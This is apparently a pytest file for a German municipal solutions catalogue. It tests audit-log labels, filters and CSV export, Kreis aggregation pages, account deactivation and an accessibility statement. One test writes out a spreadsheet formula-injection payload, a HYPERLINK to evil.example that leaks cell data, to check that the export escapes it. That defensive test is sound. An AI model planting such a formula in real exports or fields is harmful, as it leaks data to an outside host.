"""Audit log (German labels, linked titles, filters, CSV), municipality and Kreis pages (offers,
reuses, public needs, aggregation), the deactivation confirmation and the dated
accessibility statement."""

import csv
import io
import re
from datetime import date, datetime, timedelta

import pytest
import sqlalchemy as sa

from catalogue.clock import day_start, local_date
from catalogue.db import db, unit_of_work
from catalogue.models import ReviewEvent, Role, Solution, User
from catalogue.services import accounts, audit, needs, reuse
from catalogue.services.audit import EventFilters
from tests.factories import BIELEFELD, DELBRUECK, KREIS_PADERBORN, LAGE, make_user, sign_in


@pytest.fixture
def people(demo):
    return {
        "member": make_user(Role.MEMBER, LAGE, "mitglied@lage.example"),
        "curator": make_user(Role.CURATOR, None, "kuratorin@example.org"),
        "admin": make_user(Role.ADMIN, None, "admin@example.org"),
    }


def _bielefeld_solution() -> Solution:
    return db.session.scalar(
        sa.select(Solution)
        .where(Solution.lead_municipality_ags == BIELEFELD, Solution.revision_of_id.is_(None))
        .order_by(Solution.id)
        .limit(1)
    )


# Labels ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entity_type", "old", "new", "comment", "expected"),
    [
        ("reuse", "pilot", "in_operation", "", "Pilot → im Betrieb"),
        ("reuse", "pilot", "pilot", "bestätigt", "bestätigt (Pilot)"),
        (
            "user",
            "member",
            "contributor",
            "",
            "Rolle „Kommunale Mitarbeitende“ → Rolle „Beitragende“",
        ),
        ("user", "active", "inactive", "", "aktiv → deaktiviert"),
        ("user", None, "invited", "", "angelegt: eingeladen"),
        ("solution", "submitted", "published", "", "In Prüfung → Veröffentlicht"),
        ("solution", "published", "published", "", "Überarbeitung übernommen"),
        ("need", None, "open", "", "angelegt: offen"),
        ("contact_request", "open", "reuse", "", "offen → in Nachnutzung überführt"),
        ("municipality", None, "updated", "", "Stammdaten geändert"),
        ("thesaurus", None, "reset", "", "zurückgesetzt"),
        ("solution", "published", "some_new_state", "", "Veröffentlicht → some new state"),
    ],
)
def test_every_step_has_a_german_label(entity_type, old, new, comment, expected):
    event = ReviewEvent(
        entity_type=entity_type, entity_id=1, from_state=old, to_state=new, comment=comment
    )
    assert audit.describe_step(event) == expected


def test_every_code_the_services_write_has_a_label():
    """Each state a review event can record (string literals in the services and the values of
    the workflow enums) has a German action label."""
    from pathlib import Path

    import catalogue
    from catalogue import models

    source = "\n".join(
        p.read_text(encoding="utf-8")
        for p in (Path(catalogue.__file__).parent / "services").glob("*.py")
    )
    codes = set(re.findall(r'to_state="([a-z_]+)"', source))
    for enum_name, member in re.findall(r"to_state=([A-Z]\w+)\.([A-Z_]+)\.value", source):
        codes.add(getattr(models, enum_name)[member].value)
    for enum in (
        models.ContentState,
        models.NeedStatus,
        models.ReuseStatus,
        models.ContactRequestStatus,
        models.Role,
    ):
        codes |= {m.value for m in enum}
    assert codes - set(audit.ACTION_LABELS) == set()


# Audit log page -------------------------------------------------------------------------------


def _events_setup(people):
    solution = _bielefeld_solution()
    declared = reuse.declare_reuse(actor=people["member"], solution_id=solution.id, status="pilot")
    reuse.update_reuse(actor=people["member"], reuse_id=declared.id, status="in_operation")
    need = needs.create_need(
        actor=people["member"], title="Sitzungsdienst digital", text="Wir suchen ein RIS."
    )
    other = make_user(Role.MEMBER, BIELEFELD, "wechsel@bielefeld.example")
    accounts.set_role(
        actor=people["admin"], user_id=other.id, role="contributor", municipality_ags=BIELEFELD
    )
    return solution, declared, need, other


def test_the_date_filter_counts_berlin_days(people):
    """An event at 00:30 in Berlin on 4 December (23:30 UTC on the 3rd) is shown with the 4th
    and found by "from the 4th", not by "until the 3rd"."""
    _solution, declared, _need, _other = _events_setup(people)
    with unit_of_work() as s:  # the log is immutable to the ORM; the test moves it in time
        s.execute(
            sa.update(ReviewEvent)
            .where(ReviewEvent.entity_type == "reuse", ReviewEvent.entity_id == declared.id)
            .values(created_at=datetime(2026, 12, 3, 23, 30))
        )
    curator = people["curator"]

    def reuse_events(**dates):
        found = audit.list_events(
            actor=curator, filters=EventFilters(action="in_operation", **dates)
        )
        return [e.entity_id for e in found.items]

    assert reuse_events(date_from=date(2026, 12, 4)) == [declared.id]
    assert reuse_events(date_to=date(2026, 12, 4), date_from=date(2026, 12, 4)) == [declared.id]
    assert reuse_events(date_to=date(2026, 12, 3)) == []
    assert day_start(date(2026, 12, 4)) == datetime(2026, 12, 3, 23, 0)
    assert day_start(date(2026, 7, 6)) == datetime(2026, 7, 5, 22, 0)  # summer time
    assert local_date(datetime(2026, 12, 3, 23, 30)) == date(2026, 12, 4)
    assert local_date(datetime(2026, 12, 3, 22, 59)) == date(2026, 12, 3)


def test_audit_log_shows_labels_and_linked_titles(client, people):
    solution, declared, need, other = _events_setup(people)
    sign_in(client, people["curator"])
    html = client.get("/verwaltung/protokoll").get_data(as_text=True)
    table = html[html.index("<tbody") : html.index("</tbody>")]
    assert "Pilot → im Betrieb" in table
    assert "in_operation" not in table and "contributor" not in table
    assert "Nr. " not in table
    assert f'href="/loesungen/{solution.slug}#nachnutzung"' in html
    assert f'href="/bedarfe/{need.id}">Sitzungsdienst digital</a>' in html
    assert f'href="/verwaltung/konten/{other.id}">Wechsel</a>' in html
    assert "Rolle „Kommunale Mitarbeitende“ → Rolle „Beitragende“" in html


def test_audit_log_filters(client, people):
    _solution, declared, need, other = _events_setup(people)
    curator = people["curator"]
    by_actor = audit.list_events(actor=curator, filters=EventFilters(actor_id=people["admin"].id))
    assert [e.entity_id for e in by_actor.items] == [other.id]
    by_place = audit.list_events(actor=curator, filters=EventFilters(municipality_ags=LAGE))
    assert {(e.entity_type, e.entity_id) for e in by_place.items} >= {
        ("reuse", declared.id),
        ("need", need.id),
    }
    assert all(e.entity_type != "user" for e in by_place.items)
    by_action = audit.list_events(actor=curator, filters=EventFilters(action="in_operation"))
    assert [(e.entity_type, e.entity_id) for e in by_action.items] == [("reuse", declared.id)]
    today = local_date()
    assert audit.list_events(actor=curator, filters=EventFilters(date_from=today)).total >= 4
    assert (
        audit.list_events(
            actor=curator, filters=EventFilters(date_to=today - timedelta(days=400))
        ).total
        == 0
    )
    assert ("in_operation", "Nachnutzung: im Betrieb") in audit.event_actions()

    sign_in(client, curator)
    html = client.get(f"/verwaltung/protokoll?schritt=in_operation&kommune={LAGE}").get_data(
        as_text=True
    )
    assert "1 Eintrag" in html
    bad = client.get("/verwaltung/protokoll?von=2026-05-02&bis=2026-05-01")
    assert bad.status_code == 400
    assert "Das Ende des Zeitraums liegt vor seinem Anfang." in bad.get_data(as_text=True)
    assert 'value="2026-05-02"' in bad.get_data(as_text=True)  # keeps the input
    garbled = client.get("/verwaltung/protokoll?von=gestern")
    assert garbled.status_code == 400
    assert "Bitte geben Sie ein Datum an" in garbled.get_data(as_text=True)
    german = client.get("/verwaltung/protokoll?von=01.01.2020&schritt=in_operation")
    assert german.status_code == 200 and "1 Eintrag" in german.get_data(as_text=True)


def test_audit_log_csv_export(client, people):
    _events_setup(people)
    sign_in(client, people["curator"])
    response = client.get("/verwaltung/protokoll.csv?typ=reuse")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(
        csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    assert rows[0][:3] == ["Zeitpunkt (UTC)", "Eintrag", "Schritt"]
    assert [r[2] for r in rows[1:3]] == ["Pilot → im Betrieb", "angelegt: Pilot"]
    assert rows[1][1].startswith("Nachnutzung „Lage: ")
    member_client = client.application.test_client()
    sign_in(member_client, people["member"])
    assert member_client.get("/verwaltung/protokoll.csv").status_code == 403


def test_the_audit_export_keeps_a_comment_that_looks_like_a_formula_as_text(client, people):
    # Members write comments (a reuse's end reason); a curator opens the export in a
    # spreadsheet program, which would run "=HYPERLINK(…)" as a formula.
    _solution, declared, _need, _other = _events_setup(people)
    formula = '=HYPERLINK("https://evil.example/?x="&A2;"Details")'
    reuse.update_reuse(
        actor=people["member"], reuse_id=declared.id, status="ended", ended_reason=formula
    )
    sign_in(client, people["curator"])
    text = client.get("/verwaltung/protokoll.csv?typ=reuse").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    comments = [r[4] for r in rows[1:]]
    assert "'" + formula in comments and formula not in comments


# Municipality and Kreis pages -----------------------------------------------------------------


def test_serviceportal_belongs_to_the_kreis(client, people):
    portal = db.session.scalar(
        sa.select(Solution).where(Solution.title.startswith("Serviceportal Kreis Paderborn"))
    )
    assert portal.lead_municipality_ags == KREIS_PADERBORN
    html = client.get(f"/kommunen/{KREIS_PADERBORN}").get_data(as_text=True)
    # the Serviceportal and the Maschinenbaulernbetrieb MLB 4.0 are the Kreis's own projects
    assert "Bietet an (2)" in html and "Serviceportal Kreis Paderborn" in html
    city = client.get("/kommunen/05774032").get_data(as_text=True)  # Stadt Paderborn
    assert "Serviceportal Kreis Paderborn" not in city


def test_kreis_page_aggregates_its_municipalities_and_shows_needs(client, people):
    curator = people["curator"]
    need = needs.create_need(
        actor=curator,
        title="Digitale Schulanmeldung",
        text="Eltern sollen Kinder online an weiterführenden Schulen anmelden.",
        municipality_ags=DELBRUECK,
    )
    hidden = needs.create_need(
        actor=curator,
        title="Interne Personalplanung",
        text="Nur für das DigitalBüro sichtbar.",
        municipality_ags=DELBRUECK,
        visibility="curators",
    )
    html = client.get(f"/kommunen/{KREIS_PADERBORN}").get_data(as_text=True)
    assert "Städte und Gemeinden im Kreis Paderborn" in html
    assert need.title in html and hidden.title not in html
    row = re.search(r"Delbrück</a></th>(.*?)</tr>", html, re.S).group(1)
    offers, reuses_, open_needs = [int(n) for n in re.findall(r">(\d+)</td>", row)]
    delbrueck = client.get(f"/kommunen/{DELBRUECK}").get_data(as_text=True)
    assert f"Bietet an ({offers})" in delbrueck and f"Nutzt nach ({reuses_})" in delbrueck
    assert open_needs == 1 and need.title in delbrueck
    assert "Zusammen" in html


def test_kreis_table_stacks_on_a_phone_and_stays_a_table(client, people):
    """The municipalities of a Kreis stack into one block per row on a phone (the CSS of
    app-table-stack): each figure names its column, and explicit roles keep the rows, row
    headers and cells a table for screen readers."""
    html = client.get(f"/kommunen/{KREIS_PADERBORN}").get_data(as_text=True)
    section = html[html.index('aria-labelledby="members-title"') :]
    table = section[section.index("<table") : section.index("</table>")]
    assert re.match(
        r'<table class="[^"]*\bapp-table-stack app-table-stack--figures\b[^"]*" role="table"', table
    )
    row = re.search(r'<th [^>]*role="rowheader"><a [^>]*>Delbrück</a></th>(.*?)</tr>', table)
    assert row, "Delbrück's row starts with a row header"
    assert re.findall(r'<td [^>]*role="cell" data-label="([^"]+)"', row.group(1)) == [
        "Bietet an",
        "Nutzt nach",
        "Sucht",
    ]
    assert table.count('role="columnheader"') == 4 and table.count('role="rowgroup"') == 3


# Small fixes ----------------------------------------------------------------------------------


def test_deactivation_needs_a_confirmation_step(client, people):
    member = people["member"]
    sign_in(client, people["admin"])
    page = client.get(f"/verwaltung/konten/{member.id}/deaktivieren")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Ja, Konto deaktivieren" in html
    assert 'name="bestaetigt" value="ja"' in html
    client.post(f"/verwaltung/konten/{member.id}/deaktivieren")
    assert db.session.get(User, member.id).is_active  # a bare POST only shows the question
    response = client.post(
        f"/verwaltung/konten/{member.id}/deaktivieren", data={"bestaetigt": "ja"}
    )
    assert response.status_code == 302
    db.session.expire_all()
    assert not db.session.get(User, member.id).is_active
    curator_client = client.application.test_client()
    sign_in(curator_client, people["curator"])
    assert curator_client.get(f"/verwaltung/konten/{member.id}/deaktivieren").status_code == 403


def test_accessibility_statement_is_dated(client, app):
    html = client.get("/barrierefreiheit").get_data(as_text=True)
    iso = app.config["ACCESSIBILITY_STATEMENT_DATE"]
    y, m, d = iso.split("-")
    assert f'<time datetime="{iso}">{d}.{m}.{y}</time>' in html


def test_verwaltung_subnavigation_is_a_bulletless_list(client, people):
    sign_in(client, people["curator"])
    html = client.get("/verwaltung/").get_data(as_text=True)
    assert '<ul class="app-subnav">' in html
    response = client.get("/static/app.css")
    css = response.get_data(as_text=True)
    response.close()
    rule = re.search(r"\.app-subnav \{([^}]*)\}", css).group(1)
    assert "list-style: none" in rule and "padding: 0" in rule
